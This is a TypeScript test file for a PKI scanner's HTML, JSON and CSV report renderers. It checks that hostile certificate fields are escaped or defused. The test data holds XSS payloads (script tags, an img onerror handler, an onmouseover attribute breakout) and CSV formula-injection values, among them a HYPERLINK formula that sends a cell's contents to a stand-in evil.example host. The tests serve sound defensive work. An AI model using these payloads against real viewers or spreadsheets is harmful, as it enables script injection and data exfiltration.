import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";

import type { Finding } from "../../src/model/types.js";
import { renderInventoryCsv } from "../../src/reports/csv.js";
import { escapeHtml } from "../../src/reports/escape.js";
import { renderHtml } from "../../src/reports/html.js";
import { renderJson } from "../../src/reports/json.js";
import type { Report, ReportCertificate } from "../../src/reports/report-model.js";

const sha = (name: string): string => createHash("sha256").update(name).digest("hex");
const ROOT = sha("root");
const ISSUING = sha("issuing");
const LEAF = sha("leaf");
const BROKEN = sha("broken");

// Values a hostile server or certificate author controls.
const SCRIPT_SUBJECT = "CN=<script>alert(1)</script>, O=Evil";
const IMG_SAN = 'DNS:"><img src=x onerror=alert(1)>';
const AMPERSAND_ERROR = "TLS handshake failed: alert & reset <ssl3>";
/** A server's words in a protocol-posture error, shown in an attribute (a tooltip). */
const POSTURE_ERROR = 'TLSv1 handshake failed: "><script>posture</script>';
const CELL_BREAKING_MESSAGE = "weak key</td><td>pwned";
const CERT_URL = "http://crl.example.com/root.crl";

function certificate(fields: Pick<ReportCertificate, "sha256" | "subject" | "issuer"> & Partial<ReportCertificate>): ReportCertificate {
  return {
    serialNumber: "01", notBefore: "2024-01-01T00:00:00.000Z", notAfter: "2034-01-01T00:00:00.000Z",
    keyAlgorithm: "RSA", keySize: 4096, curve: null, spkiSha256: sha(`${fields.sha256} key`), signatureAlgorithm: "sha256WithRSAEncryption", sans: [], isCA: true,
    endpoints: [], files: [], sources: ["aia"], trustedPath: null, crlDistributionPoints: [], ocspUrls: [],
    caIssuersUrls: [], certificatePolicies: [], extendedKeyUsage: [], keyUsage: ["keyCertSign", "cRLSign"],
    owner: null, site: null, tags: [], firstSeen: "2025-05-01T10:00:01.000Z", lastSeen: "2025-06-01T10:00:01.000Z",
    ...fields,
  };
}

function finding(fields: Pick<Finding, "ruleId" | "severity" | "message"> & Partial<Finding>): Finding {
  return {
    id: sha(fields.ruleId).slice(0, 24), category: "security", certificate: LEAF,
    endpoints: ["192.0.2.10:443#www.example.com"], url: null, evidence: {}, ...fields,
  };
}

/** A maturity score with a hostile criterion text and cap reason, one category capped, one not assessed. */
function sampleMaturity(): NonNullable<Report["maturity"]> {
  const category = (level: number | null): NonNullable<Report["maturity"]>["categories"]["security"] => ({
    level, uncapped: level, label: level === null ? null : "Ad Hoc", bounds: { min: level ?? 0, max: level ?? 4 }, confidence: level === null ? 0 : 0.5,
    criteria: [{ id: "security.no-weak-keys", level: 2, text: "<b>policies</b>", status: "failed", target: { metric: "keys.weak-share", op: "<=", threshold: 0 }, metrics: { "keys.weak-share": 0.25 }, evidence: [{ kind: "certificate", id: LEAF }] }],
    caps: level === 0 ? [{ level: 0, reason: "ESC1 <script>alert(1)</script>", findings: ["abc"] }] : [], nextSteps: [],
  });
  return {
    categories: {
      reliability: category(1), efficiency: category(1), security: category(0), governance: category(1), agility: category(1), strategy: category(null),
    },
    overall: { level: 0, label: "Ad Hoc", basis: "the lowest level among the categories that could be assessed" },
    rubric: { name: "test rubric", version: "1", sha256: ROOT },
  };
}

/** A small but complete run: root → issuing CA → hostile leaf, one endpoint per status, one of each severity. */
function sampleReport(): Report {
  const certificates = [
    certificate({ sha256: ROOT, subject: "CN=Example Root CA", issuer: "CN=Example Root CA", sources: ["anchor"], trustedPath: [ROOT] }),
    certificate({ sha256: ISSUING, subject: "CN=Example Issuing CA", issuer: "CN=Example Root CA", trustedPath: [ISSUING, ROOT] }),
    certificate({
      sha256: LEAF, subject: SCRIPT_SUBJECT, issuer: "CN=Example Issuing CA", serialNumber: "5e2f", keyAlgorithm: "EC",
      keySize: 256, curve: "P-256", signatureAlgorithm: "ecdsa-with-SHA256", sans: [IMG_SAN, "DNS:www.example.com"],
      isCA: false, endpoints: ["192.0.2.10:443#www.example.com"], files: ["/etc/ssl/leaf.pem"], sources: ["tls", "file"],
      trustedPath: [LEAF, ISSUING, ROOT], crlDistributionPoints: [CERT_URL], keyUsage: ["digitalSignature"],
    }),
  ];
  const endpoint = (address: string, port: number, status: string, error: string | null) => ({
    id: `${address}:${port}`, address, port, sni: null, status, error, tlsVersion: null, cipher: null, chain: [],
    stapledOcsp: false, observedAt: "2025-06-01T10:00:01.000Z", durationMs: 12, starttls: null, protocols: null, owner: null, site: null, tags: [],
    firstSeen: null, lastSeen: null,
  });
  return {
    schemaVersion: 1,
    scan: {
      id: "6f1c2a7e-5b3d-4c1e-9a0f-2d8e7b6c5a41", startedAt: "2025-06-01T10:00:00.000Z",
      finishedAt: "2025-06-01T10:05:00.000Z", complete: true, targets: ["192.0.2.0/28", "www.example.com"],
      ports: [443, 8443], trustAnchors: "mozilla", profile: null, stats: { probes: "32" },
    },
    summary: {
      endpointsByStatus: { tls: 1, closed: 1, timeout: 1, "not-tls": 1, error: 1 }, certificates: 3, cas: 2, unparsable: 1,
      probesByOutcome: { tls: 1, closed: 27, timeout: 1, "not-tls": 1, error: 1, excluded: 1 },
      findingsBySeverity: { critical: 1, high: 1, medium: 1, low: 1, info: 1 },
      byOwner: [],
    },
    inventory: {
      endpoints: [
        {
          ...endpoint("192.0.2.10", 443, "tls", null), id: "192.0.2.10:443#www.example.com", sni: "www.example.com",
          tlsVersion: "TLSv1.3", cipher: "TLS_AES_256_GCM_SHA384", chain: [LEAF, ISSUING],
          protocols: { TLSv1: { outcome: "error", error: POSTURE_ERROR }, "TLSv1.1": { outcome: "refused" }, "TLSv1.2": { outcome: "accepted" }, "TLSv1.3": { outcome: "accepted" } },
        },
        endpoint("192.0.2.11", 443, "closed", "connection refused"),
        endpoint("192.0.2.12", 8443, "timeout", "TLS handshake did not complete within 5000 ms"),
        endpoint("192.0.2.13", 443, "not-tls", "answered, but not with TLS (first byte 0x48)"),
        endpoint("192.0.2.14", 443, "error", AMPERSAND_ERROR),
      ],
      certificates,
      cas: [
        { sha256: ROOT, subject: "CN=Example Root CA", issuer: "CN=Example Root CA", notAfter: "2034-01-01T00:00:00.000Z", sanctioned: true, anchor: true, issued: 1, parent: null, firstSeen: null, lastSeen: null },
        { sha256: ISSUING, subject: "CN=Example Issuing CA", issuer: "CN=Example Root CA", notAfter: "2034-01-01T00:00:00.000Z", sanctioned: true, anchor: false, issued: 1, parent: ROOT, firstSeen: "2025-05-01T10:00:01.000Z", lastSeen: "2025-06-01T10:00:01.000Z" },
      ],
      unparsable: [{ sha256: BROKEN, error: "ASN.1 decode failed: <truncated>", locations: ["/etc/ssl/broken.pem"] }],
      crls: [{
        url: "http://crl.example/<script>.crl", source: "cdp", fetchedAt: "2025-06-01T10:01:00.000Z", latencyMs: 12, httpStatus: 200,
        error: null, skipped: null, signature: { status: "invalid", issuer: null }, certificates: [LEAF], revoked: [],
        crl: {
          sha256: BROKEN, size: 500, issuer: "CN=Issuing <CA>", issuerNameHash: BROKEN, thisUpdate: "2025-05-20T00:00:00.000Z",
          nextUpdate: "2025-05-27T00:00:00.000Z", crlNumber: "07", deltaCrlIndicator: null, entryCount: 3, signatureAlgorithm: "ecdsa-with-SHA256",
          unhandledCriticalExtensions: ["2.5.29.28"],
        },
      }],
      ocsp: [{
        url: "http://ocsp.example/", source: "responder", endpoint: null, certificate: LEAF, issuer: null, fetchedAt: "2025-06-01T10:01:00.000Z",
        latencyMs: 30, httpStatus: 200, error: null, skipped: null, responseStatus: "successful", certStatus: "good", revocationTime: null,
        revocationReason: null, thisUpdate: null, nextUpdate: null, signer: "unauthorized", signatureValid: true,
        problems: ["signed by <rogue>"],
      }],
      privateKeys: [{
        file: "/srv/<keys>/root.key", entry: null, container: "pem", format: "pkcs8", encrypted: false, access: "plaintext", keyAlgorithm: "EC",
        keySize: 256, curve: "P-256", spkiSha256: "e".repeat(64), pairedCertificates: [], observedAt: "2025-06-01T10:00:00.000Z", error: null,
        matchedCertificates: [ISSUING], exposed: true, matchesCa: true,
      }],
      files: [{
        path: "/srv/<keys>/store.p12", format: "pkcs12", integrity: null, opened: null, certificates: 0, privateKeys: 0,
        observedAt: "2025-06-01T10:00:00.000Z", error: "cannot open the PKCS#12 store: <mac>",
      }],
      adcs: {
        forests: [{
          source: "ldaps://127.0.0.1:636", configurationNamingContext: "CN=Configuration,DC=pki,DC=test", truncated: false,
          enterpriseCas: [{ name: "Issuing <CA>", dn: "CN=Issuing CA,CN=Enrollment Services", dnsHostName: "ca1.pki.test", certificates: [{ sha256: ISSUING, subject: "CN=Issuing CA", notAfter: null }], templates: ["User<script>"] }],
          templates: [{
            name: "User<script>", dn: "CN=User,CN=Certificate Templates", schemaVersion: 1, publishedBy: ["Issuing <CA>"],
            enrolleeSuppliesSubject: true, ekus: ["clientAuth"], managerApproval: false, authorizedSignatures: 0, keyAlgorithm: "RSA",
            minimalKeySize: 1024, validityDays: 365, renewalDays: 42,
            lowPrivilegedEnrollers: [{ sid: "S-1-5-21-1-2-3-513", name: "Domain Users", rights: ["Enroll"] }], lowPrivilegedWriters: [],
          }],
          ntAuth: [{ sha256: ISSUING, subject: "CN=Issuing CA", notAfter: null, sanctioned: false }],
          errors: [{ context: "sid-resolution", message: "no such object <x>" }],
        }],
        notAssessed: [{ id: "ESC6", title: "EDITF_ATTRIBUTESUBJECTALTNAME2", needs: "the CA's registry", reference: "Certified Pre-Owned" }],
      },
    },
    findings: [
      finding({ ruleId: "roca-key", severity: "critical", message: CELL_BREAKING_MESSAGE, evidence: { roca: true } }),
      finding({ ruleId: "expired", severity: "high", category: "reliability", message: "expired 2025-01-01", evidence: { daysAgo: 151 } }),
      finding({ ruleId: "crl-unreachable", severity: "medium", message: "CRL not fetched", certificate: ROOT, endpoints: [], url: CERT_URL }),
      finding({ ruleId: "short-validity", severity: "low", category: "agility", message: "fine", certificate: null, endpoints: [] }),
      finding({ ruleId: "expired", severity: "info", category: "reliability", message: "duplicate rule id on the leaf" }),
    ],
    rules: [{
      id: "weak-key", title: "Weak public key", category: "security", severity: "high",
      rationale: "A weak key <lets> attackers in.", remediation: "Re-key & re-issue.", references: ["NIST SP 800-131A"],
    }],
    ruleFailures: [{ ruleId: "ocsp-stapling", error: "TypeError: cannot read <undefined> & more" }],
    ruleOutcomes: [
      { ruleId: "weak-key", title: "Weak public key", category: "security", status: "evaluated", examined: 3, findings: 1, failures: 0 },
      { ruleId: "missing-san", title: "No <subjectAltName>", category: "reliability", status: "evaluated", examined: 1, findings: 0, failures: 0 },
      { ruleId: "adcs-esc1", title: "ESC1", category: "security", status: "not-applicable", examined: 0, findings: 0, failures: 0 },
      { ruleId: "ocsp-stapling", title: "OCSP stapling", category: "reliability", status: "failed", examined: 0, findings: 0, failures: 1 },
    ],
    analysis: { pkiscopeVersion: "0.2.0", analysedAt: "2025-06-01T10:05:00.000Z", validationTime: "2025-06-01T10:05:00.000Z", thresholds: { expiryDays: 30 } },
    maturity: sampleMaturity(),
    pkic: null,
    trends: sampleTrends(),
  };
}

/** Three runs of the series (strategy never assessed, security not in the middle one) and the hostile leaf expiring in week 2. */
function sampleTrends(): Report["trends"] {
  const levels = (security: number | null) => ({ reliability: 1, efficiency: 1, security, governance: 1, agility: 1, strategy: null, overall: 0 });
  const run = (id: string, day: number, security: number | null, opened: number | null, resolved: number | null) => ({
    id, startedAt: `2025-06-0${day}T10:00:00.000Z`, finishedAt: `2025-06-0${day}T10:05:00.000Z`, complete: true,
    maturity: levels(security), findings: 5, opened, resolved,
  });
  const week = (n: number) => ({
    week: n, from: new Date(Date.parse("2025-06-01T10:05:00.000Z") + (n - 1) * 7 * 86_400_000).toISOString(),
    to: new Date(Date.parse("2025-06-01T10:05:00.000Z") + n * 7 * 86_400_000).toISOString(), count: n === 2 ? 1 : 0, certificates: n === 2 ? [LEAF] : [],
  });
  return {
    runs: [run("run-1", 1, 0, null, null), run("run-2", 2, null, 2, 1), run("6f1c2a7e-5b3d-4c1e-9a0f-2d8e7b6c5a41", 3, 0, 1, 3)],
    expiring: Array.from({ length: 13 }, (_, i) => week(i + 1)),
  };
}

describe("renderJson", () => {
  it("is the report as 2-space JSON with a trailing newline", () => {
    const report = sampleReport();
    const text = renderJson(report);
    expect(text.endsWith("}\n")).toBe(true);
    expect(text).toContain('\n  "schemaVersion": 1,');
    expect(JSON.parse(text)).toEqual(report);
  });
});

/** Tags as written (`<name attrs>`), after the doctype. Escaped text never contains "<", so this sees all markup. */
function tags(page: string): { name: string; attributes: string }[] {
  return [...page.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)([^>]*)>/g)].map((m) => ({ name: m[1]!.toLowerCase(), attributes: m[2]! }));
}

/** What is left of a tag's attributes after removing well-formed name="value" pairs (and SVG's self-closing "/"): injected text, if any. */
function strayAttributeText(attributes: string): string {
  return attributes.replace(/\s[a-zA-Z][a-zA-Z0-9-]*="[^"]*"/g, "").replace(/\/$/, "").trim();
}

const ALLOWED_TAGS = new Set([
  "html", "head", "meta", "title", "style", "body", "header", "main", "footer", "section", "h1", "h2", "h3", "p", "div", "progress", "small", "h4",
  "span", "strong", "code", "pre", "br", "a", "dl", "dt", "dd", "details", "summary", "ul", "li", "table", "thead", "tbody",
  "tr", "th", "td", "article", "ol", "svg", "g", "rect", "line", "text", "desc", "circle",
]);

describe("renderHtml", () => {
  const page = renderHtml(sampleReport());

  it("escapes every hostile value instead of emitting it as markup", () => {
    for (const hostile of [SCRIPT_SUBJECT, IMG_SAN, AMPERSAND_ERROR, CELL_BREAKING_MESSAGE, POSTURE_ERROR]) {
      expect(page).not.toContain(hostile);
      expect(page).toContain(escapeHtml(hostile));
    }
    expect(page).not.toContain("<script");
    expect(page).not.toContain("<img");
    expect(page).toContain("&lt;truncated&gt;");
    expect(page).toContain("&lt;undefined&gt; &amp; more");
  });

  it("contains only known tags, with quoted attributes and no event handlers", () => {
    for (const { name, attributes } of tags(page)) {
      expect(ALLOWED_TAGS, name).toContain(name);
      expect(strayAttributeText(attributes), attributes).toBe("");
      expect(attributes).not.toMatch(/\son[a-z]+=|\ssrc=|\sstyle=/i);
    }
  });

  it("loads nothing and links only within the page", () => {
    const hrefs = tags(page).flatMap(({ attributes }) => [...attributes.matchAll(/\shref="([^"]*)"/g)].map((m) => m[1]!));
    expect(hrefs.length).toBeGreaterThan(0);
    for (const href of hrefs) expect(href).toMatch(/^#(cert-[0-9a-f]{64}|(finding|endpoint|crl|ocsp|template|enterprise-ca)-[0-9a-f]{20,64}|rule-[a-z0-9-]+|maturity-[a-z]+)$/);
    // The AD CS section escapes directory values and lists what LDAP cannot assess.
    expect(page).toContain("User&lt;script&gt;");
    expect(page).toContain("Domain Users: Enroll");
    expect(page).toContain("EDITF_ATTRIBUTESUBJECTALTNAME2");
    // The revocation section shows the CRL bar and escapes URLs and problems from certificates.
    expect(page).toContain("http://crl.example/&lt;script&gt;.crl");
    expect(page).toContain("signed by &lt;rogue&gt;");
    expect(page).toContain("critical extensions not interpreted (2.5.29.28): not used to decide revocation");
    expect(page).toMatch(/<progress class="fresh stale" max="100" value="100"/);
    expect(page).toContain("Probes: 1 tls, 27 closed, 1 timeout, 1 not-tls, 1 error, 1 excluded.");
    // Rule metadata is rendered, escaped, and findings link to it.
    expect(page).toContain("Re-key &amp; re-issue.");
    expect(page).toContain('id="rule-weak-key"');
    expect(page).not.toMatch(/url\(|@import|<link|<script/i);
    expect(page).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">`);
    // The certificate's CRL URL is shown, as text only.
    expect(page).toContain(`<code>${CERT_URL}</code>`);
  });

  it("links a finding's certificate to its inventory row", () => {
    expect(page).toContain(`<tr id="cert-${LEAF}">`);
    expect(page).toContain(`<a href="#cert-${LEAF}">${escapeHtml(SCRIPT_SUBJECT)}</a>`);
  });

  it("never puts a certificate id that is not a sha256 into an id or link", () => {
    const report = sampleReport();
    const forged = 'x" onmouseover="alert(1)';
    report.findings[0]!.certificate = forged;
    report.inventory.certificates[2]!.sha256 = forged;
    report.inventory.cas[1]!.sha256 = forged;
    const forgedPage = renderHtml(report);
    expect(forgedPage).not.toContain(forged);
    expect(forgedPage).toContain(escapeHtml(forged));
    expect(forgedPage).not.toMatch(/(href="#|id=")cert-x/);
    // Shown as text (a title attribute included), escaped so that it cannot end an attribute.
    for (const { attributes } of tags(forgedPage)) expect(strayAttributeText(attributes), attributes).toBe("");
  });

  it("shows the incomplete banner if and only if the scan is incomplete", () => {
    const banner = '<div class="banner banner-incomplete" role="alert">';
    expect(page).not.toContain(banner);
    const report = sampleReport();
    report.scan.complete = false;
    report.scan.finishedAt = null;
    const partial = renderHtml(report);
    expect(partial).toContain(banner);
    expect(partial).toContain("not finished");
  });

  it("groups findings by severity and counts them in coloured badges", () => {
    for (const severity of ["critical", "high", "medium", "low", "info"]) {
      expect(page).toContain(`<span class="badge sev-${severity}">${severity} 1</span>`);
      expect(page).toContain(`<h3><span class="badge sev-${severity}">${severity}</span> 1</h3>`);
    }
    const order = ["roca-key", "expired", "crl-unreachable", "short-validity"].map((id) => page.indexOf(`<code>${id}</code>`));
    expect(order).toEqual([...order].sort((a, b) => a - b));
  });

  it("leads with the maturity of each category, with its range and why, escaped", () => {
    const section = page.slice(page.indexOf('<section id="maturity">'), page.indexOf("</section>", page.indexOf('<section id="maturity">')));
    expect(page.indexOf('<section id="maturity">')).toBeLessThan(page.indexOf('<section id="summary">'));
    expect(section).toContain("Overall maturity: <strong>0 Ad Hoc</strong>");
    expect(section).toContain("Capped at level 0:</span> ESC1 &lt;script&gt;alert(1)&lt;/script&gt;");
    expect(section).toMatch(/Level 2 not met:<\/span> <span class="criterion-quote">“&lt;b&gt;policies&lt;\/b&gt;”<\/span> <code class="note">security.no-weak-keys<\/code><div class="criterion-detail">Measured: <code>keys.weak-share<\/code> 25%/);
    expect(section).toMatch(/<article class="maturity-category" id="maturity-strategy">\n<h3>Strategy <span class="level-badge">not assessed<\/span><\/h3>\n<p class="note">Range 0–4 /);
    expect(section).not.toContain("<script>");
  });

  it("says what every rule checked: clean, findings, nothing to check, failed", () => {
    const checks = page.slice(page.indexOf('<section id="checks">'), page.indexOf("</section>", page.indexOf('<section id="checks">')));
    expect(checks).toContain("4 rules ran: 1 checked and found nothing wrong, 1 raised findings, 1 failed, 1 had nothing to look at");
    expect(checks).toMatch(/<code>missing-san<\/code><br>No &lt;subjectAltName&gt;<\/td>.*<span class="yes">clean<\/span>/s);
    expect(checks).toContain('<a href="#rule-weak-key">1 finding(s)</a>');
    expect(checks).toContain("nothing to check in this run");
    expect(checks).toContain('<span class="no">failed on 1 object(s)</span>');
    // Clean checks come right after failures, before findings and idle rules.
    expect(checks.indexOf("ocsp-stapling")).toBeLessThan(checks.indexOf("missing-san"));
    expect(checks.indexOf("missing-san")).toBeLessThan(checks.indexOf("weak-key"));
    expect(checks.indexOf("weak-key")).toBeLessThan(checks.indexOf("adcs-esc1"));
  });

  it("lists endpoints of every status and the unparsable certificate", () => {
    for (const status of ["tls", "closed", "timeout", "not-tls", "error"]) expect(page).toContain(`<span class="pill">${status}</span>`);
    expect(page).toContain("<code>192.0.2.10:443</code>");
    expect(page).toContain(`<code>${BROKEN}</code>`);
  });

  it("shows an endpoint's protocol posture, one pill per version, with why a version could not be told", () => {
    expect(page).toContain(`<span class="pill" title="${escapeHtml(POSTURE_ERROR)}">1 ?</span> <span class="pill">1.1 no</span> <span class="pill">1.2 yes</span> <span class="pill">1.3 yes</span>`);
  });

  it("nests the issuing CA under the root in the CA tree", () => {
    const tree = caTreeDepths(page);
    expect(tree.get("CN=Example Root CA")).toBe(1);
    expect(tree.get("CN=Example Issuing CA")).toBe(2);
  });

  it("puts a CA whose parent is missing at the top, and survives parent loops", () => {
    const report = sampleReport();
    const [root, issuing] = report.inventory.cas;
    root!.parent = ISSUING; // root → issuing → root
    const orphan = { ...issuing!, sha256: sha("orphan"), subject: "CN=Orphan CA", parent: sha("not in the list") };
    const selfParent = { ...issuing!, sha256: sha("self"), subject: "CN=Self CA", parent: sha("self") };
    report.inventory.cas.push(orphan, selfParent);
    const loopPage = renderHtml(report);
    const tree = caTreeDepths(loopPage);
    expect(tree.get("CN=Orphan CA")).toBe(1);
    expect(tree.get("CN=Self CA")).toBe(1);
    expect(tree.get("CN=Example Root CA")).toBe(1);
    expect(tree.get("CN=Example Issuing CA")).toBe(2);
    expect(loopPage).toContain("loop: shown above");
    expect(loopPage).toContain("is not among these CAs");
  });
});

/** Nesting depth (in <ul>s) of the first occurrence of each CA subject in the CA tree section. */
function caTreeDepths(page: string): Map<string, number> {
  const section = page.slice(page.indexOf('<section id="ca-tree">'), page.indexOf("</section>", page.indexOf('<section id="ca-tree">')));
  const depths = new Map<string, number>();
  let depth = 0;
  // A CA is linked to its certificate row, or named without a link when the page has no row for it.
  for (const m of section.matchAll(/<(\/?)ul\b[^>]*>|<a href="#cert-[0-9a-f]{64}">([^<]*)<\/a>|<span class="unlisted"[^>]*>([^<]*)<\/span>/g)) {
    const name = m[2] ?? m[3];
    if (name !== undefined) {
      if (!depths.has(name)) depths.set(name, depth);
    } else depth += m[1] ? -1 : 1;
  }
  return depths;
}

/** A strict RFC 4180 parser: CRLF between records, quotes only around whole fields. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let fields: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = "";
    if (text[i] === '"') {
      for (i++; ; i++) {
        if (i >= text.length) throw new Error("unterminated quoted field");
        if (text[i] === '"' && text[i + 1] === '"') field += text[i++];
        else if (text[i] === '"') break;
        else field += text[i];
      }
      i++;
    } else {
      while (i < text.length && !/[,\r\n"]/.test(text[i]!)) field += text[i++];
    }
    fields.push(field);
    if (text[i] === ",") i++;
    else if (text.startsWith("\r\n", i)) {
      records.push(fields);
      fields = [];
      i += 2;
    } else throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  if (fields.length > 0) throw new Error("last record not terminated by CRLF");
  return records;
}

const CSV_HEADER = "sha256,subject,issuer,serialNumber,notBefore,notAfter,keyAlgorithm,keySize,curve,signatureAlgorithm,sans,isCA,sanctioned,endpoints,files,sources,findings";

describe("renderInventoryCsv", () => {
  it("writes a header and one CRLF-terminated row per certificate", () => {
    const text = renderInventoryCsv(sampleReport());
    expect(text.startsWith(`${CSV_HEADER}\r\n`)).toBe(true);
    const records = parseCsv(text);
    expect(records).toHaveLength(4);
    for (const record of records) expect(record).toHaveLength(17);
  });

  it("fills each column from the certificate and its findings", () => {
    const report = sampleReport();
    report.inventory.certificates[0]!.trustedPath = null;
    const [header, root, , leaf] = parseCsv(renderInventoryCsv(report));
    const row = (values: string[]) => Object.fromEntries(header!.map((name, i) => [name, values[i]]));
    expect(row(leaf!)).toMatchObject({
      sha256: LEAF, subject: SCRIPT_SUBJECT, keyAlgorithm: "EC", keySize: "256", curve: "P-256",
      sans: `${IMG_SAN}; DNS:www.example.com`, isCA: "false", sanctioned: "true",
      endpoints: "192.0.2.10:443#www.example.com", files: "/etc/ssl/leaf.pem", sources: "tls; file",
      findings: "roca-key; expired",
    });
    expect(row(root!)).toMatchObject({ sha256: ROOT, isCA: "true", sanctioned: "false", curve: "", findings: "crl-unreachable" });
  });

  it("quotes fields with commas, quotes and line breaks, and reads back the same value", () => {
    const report = sampleReport();
    const subject = 'CN="Quoted, Inc."\r\nOU=two\nlines';
    report.inventory.certificates[0]!.subject = subject;
    const text = renderInventoryCsv(report);
    expect(text).toContain('"CN=""Quoted, Inc.""\r\nOU=two\nlines"');
    expect(parseCsv(text)[1]![1]).toBe(subject);
  });

  it("defuses fields a spreadsheet would run as a formula", () => {
    const report = sampleReport();
    const [first, second, third] = report.inventory.certificates;
    first!.subject = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    first!.issuer = "+1+1";
    first!.serialNumber = "-2";
    second!.subject = "@SUM(A1)";
    second!.issuer = "\tCN=tab";
    third!.subject = "\rCN=carriage return";
    third!.issuer = "CN=harmless = sign later";
    const [, a, b, c] = parseCsv(renderInventoryCsv(report));
    expect(a!.slice(1, 4)).toEqual([`'${first!.subject}`, "'+1+1", "'-2"]);
    expect(b!.slice(1, 3)).toEqual(["'@SUM(A1)", "'\tCN=tab"]);
    expect(c!.slice(1, 3)).toEqual(["'\rCN=carriage return", "CN=harmless = sign later"]);
  });
});
